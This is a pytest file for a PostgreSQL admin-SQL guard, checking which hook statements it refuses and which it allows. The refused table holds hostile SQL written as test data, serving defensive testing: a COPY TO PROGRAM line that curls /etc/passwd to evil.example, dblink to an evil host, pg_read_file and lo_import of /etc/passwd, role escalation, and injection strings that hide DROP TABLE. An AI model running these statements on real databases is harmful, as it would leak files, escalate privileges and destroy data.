"""The admin-SQL guard: what a `sql` hook may run, and an adversarial table of what it may not."""

from __future__ import annotations

import pytest

from hakiri.errors import HookError, UnsafeHook
from hakiri.guards.sql import AdminStatement, check_admin_sql

# (statement, a fragment the refusal's reason must contain: the refused thing)
REFUSED = [
    ("INSERT INTO t VALUES (1)", "INSERT is not an admin statement"),
    ("UPDATE t SET a = 1", "UPDATE is not an admin statement"),
    ("DELETE FROM t", "DELETE is not an admin statement"),
    ("dElEtE from t", "DELETE is not an admin statement"),
    ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "MERGE"),
    ("TRUNCATE t", "TRUNCATE"),
    ("DROP TABLE t", "DROP TABLE"),
    ("CREATE TABLE t (a int)", "CREATE TABLE"),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", "CREATE INDEX"),
    ("ALTER TABLE t ADD COLUMN b int", "ALTER TABLE"),
    ("GRANT SELECT ON t TO someone", "GRANT"),
    ("REVOKE SELECT ON t FROM someone", "REVOKE"),
    ("COPY t TO PROGRAM 'curl https://evil.example -d @/etc/passwd'", "COPY"),
    ("COPY t FROM '/etc/passwd'", "COPY"),
    ("DO $$ BEGIN DELETE FROM t; END $$", "DO"),
    ("CALL cleanup()", "CALL"),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK"),
    ("COMMENT ON TABLE t IS 'x'", "COMMENT ON"),
    ("SECURITY LABEL ON TABLE t IS 'x'", "SECURITY LABEL"),
    ("REINDEX TABLE t", "REINDEX"),
    ("PREPARE p AS DELETE FROM t", "PREPARE"),
    ("SHOW work_mem", "SHOW"),
    ("SELECT 1; SELECT 2", "several statements"),
    ("ANALYZE t; DROP TABLE t", "several statements"),
    ("VACUUM t;; ", "several statements"),
    ("ANALYZE t -- and a trailing comment", "comments"),
    ("ANALYZE /* block */ t", "comments"),
    ("VACUUM t /* hidden ; DROP TABLE t */", "comments"),
    ("SELECT 1 --", "comments"),
    ("-- only a comment", "comments"),
    ("EXPLAIN ANALYZE SELECT 1", "EXPLAIN ANALYZE"),
    ("EXPLAIN (ANALYZE) SELECT 1", "EXPLAIN ANALYZE"),
    ("EXPLAIN (FORMAT JSON, ANALYZE true) SELECT 1", "EXPLAIN ANALYZE"),
    ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN ANALYZE"),
    ("EXPLAIN DELETE FROM t", "EXPLAIN of DELETE"),
    ("EXPLAIN EXECUTE p", "EXPLAIN of EXECUTE"),
    ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "data-modifying WITH (DELETE)"),
    ("WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1", "data-modifying WITH (INSERT)"),
    ("WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT 1", "data-modifying WITH (UPDATE)"),
    ("WITH x AS (SELECT 1) DELETE FROM t", "DELETE is not an admin statement"),
    ("SET ROLE postgres", "SET ROLE"),
    ("SET LOCAL ROLE postgres", "SET ROLE"),
    ("SET role = postgres", "SET ROLE"),
    ("SET SESSION AUTHORIZATION someone", "SET SESSION AUTHORIZATION"),
    ("RESET ROLE", "RESET ROLE"),
    ("RESET ALL", "RESET"),
    ("SET session_replication_role = replica", "session_replication_role"),
    ("SET log_statement = 'none'", "log_statement"),
    ("SET work_mem = current_setting('x')", "literal values"),
    ("SELECT pg_terminate_backend(123)", "pg_terminate_backend()"),
    ("SELECT pg_catalog.pg_terminate_backend(1)", "pg_terminate_backend()"),
    ('SELECT "pg_cancel_backend"(1)', "pg_cancel_backend()"),
    ("SELECT lo_import('/etc/passwd')", "lo_import()"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "dblink()"),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE t')", "dblink_exec()"),
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file()"),
    ("SELECT set_config('role', 'postgres', false)", "set_config()"),
    ("SELECT nextval('s')", "nextval()"),
    ("SELECT pg_sleep(600)", "pg_sleep()"),
    ("SELECT pg_advisory_lock(1)", "pg_advisory_lock()"),
    ("SELECT query_to_xml('DELETE FROM t', true, true, '')", "query_to_xml()"),
    ("SELECT * FROM ROWS FROM (pg_reload_conf())", "pg_reload_conf()"),
    ("SELECT my_cleanup()", "my_cleanup()"),
    ("SELECT app.purge(1)", "app.purge()"),
    ("SELECT * INTO newt FROM t", "SELECT INTO"),
    ("SELECT * FROM t FOR UPDATE", "FOR UPDATE"),
    ("SELECT * FROM t FOR SHARE", "FOR UPDATE/SHARE"),
    ("SELECT 'a\\' ; DROP TABLE t; --'", "backslash"),
    ("SELECT $tag$ x $tag$", "dollar-quoted"),
    ("SELECT $1", "`$`"),
    ("ANALYZE t WHERE true", "ANALYZE may name only"),
    ("VACUUM (FULL, ANALYZE SELECT) t", "VACUUM option"),
    ("CLUSTER idx ON t", "CLUSTER may name only"),
    ("REFRESH MATERIALIZED VIEW mv WITH NO DATA", "WITH NO DATA"),
    ("VALUES (1)", "VALUES"),
    ("(SELECT 1)", "no verb"),
    ("", "empty"),
    ("   \n\t", "empty"),
    (";", "empty"),
]

# (statement, kind, needs_autocommit, the text that will run)
ALLOWED = [
    ("ANALYZE", "ANALYZE", False, "ANALYZE"),
    ("ANALYZE schema.table", "ANALYZE", False, "ANALYZE schema.table"),
    ("ANALYZE VERBOSE t (a, b), u", "ANALYZE", False, "ANALYZE VERBOSE t (a, b), u"),
    ("VACUUM", "VACUUM", True, "VACUUM"),
    ("VACUUM (ANALYZE) t", "VACUUM", True, "VACUUM (ANALYZE) t"),
    ("VACUUM FULL t", "VACUUM", True, "VACUUM FULL t"),
    ("vacuum (verbose, parallel 2) s.t", "VACUUM", True, "vacuum (verbose, parallel 2) s.t"),
    ("REFRESH MATERIALIZED VIEW mv", "REFRESH MATERIALIZED VIEW", False, None),
    ('REFRESH MATERIALIZED VIEW CONCURRENTLY "S"."mv"', "REFRESH MATERIALIZED VIEW", False, None),
    ("CLUSTER t USING idx", "CLUSTER", False, "CLUSTER t USING idx"),
    ("CLUSTER", "CLUSTER", True, "CLUSTER"),
    ("SET work_mem = '64MB'", "SET", False, None),
    ("SET LOCAL statement_timeout = '5s'", "SET", False, None),
    ("SET search_path TO analytics, public", "SET", False, None),
    ("SET enable_seqscan = off", "SET", False, None),
    ("EXPLAIN SELECT * FROM t", "EXPLAIN", False, None),
    ("EXPLAIN (FORMAT JSON, COSTS off) SELECT a FROM t", "EXPLAIN", False, None),
    ("SELECT count(*) FROM t", "SELECT", False, None),
    ("SELECT '--not a comment' AS x", "SELECT", False, None),
    ("SELECT '/* nor this */', 'a;b'", "SELECT", False, None),
    ("WITH x AS (SELECT max(a) AS m FROM t) SELECT m FROM x", "SELECT", False, None),
    ("SELECT pg_size_pretty(pg_total_relation_size('t'))", "SELECT", False, None),
    ("ANALYZE t;", "ANALYZE", False, "ANALYZE t"),
    ("  VACUUM t ;\n", "VACUUM", True, "VACUUM t"),
]


@pytest.mark.parametrize(("statement", "named"), REFUSED)
def test_refused(statement: str, named: str) -> None:
    with pytest.raises(UnsafeHook) as refused:
        check_admin_sql(statement)

    reason = refused.value.reason
    assert reason.startswith("hook SQL refused: ")
    assert named in reason
    assert "\n" not in reason
    assert "ANALYZE, VACUUM" in (refused.value.hint or "")


@pytest.mark.parametrize(("statement", "kind", "needs_autocommit", "runs"), ALLOWED)
def test_allowed(statement: str, kind: str, needs_autocommit: bool, runs: str | None) -> None:
    checked = check_admin_sql(statement)

    assert checked == AdminStatement(
        kind=kind, sql=runs or statement.strip(), needs_autocommit=needs_autocommit
    )


def test_the_tables_are_big_enough() -> None:
    assert len(REFUSED) >= 30
    assert len(ALLOWED) >= 12


def test_a_refusal_is_a_hook_error() -> None:
    # The engine and the CLI handle every hook failure the same way.
    assert issubclass(UnsafeHook, HookError)


def test_vacuum_needs_autocommit_and_analyze_does_not() -> None:
    # blue_green runs post hooks inside its swap transaction, where VACUUM cannot run.
    assert check_admin_sql("VACUUM ANALYZE t").needs_autocommit
    assert not check_admin_sql("ANALYZE t").needs_autocommit
    assert not check_admin_sql("CLUSTER t").needs_autocommit
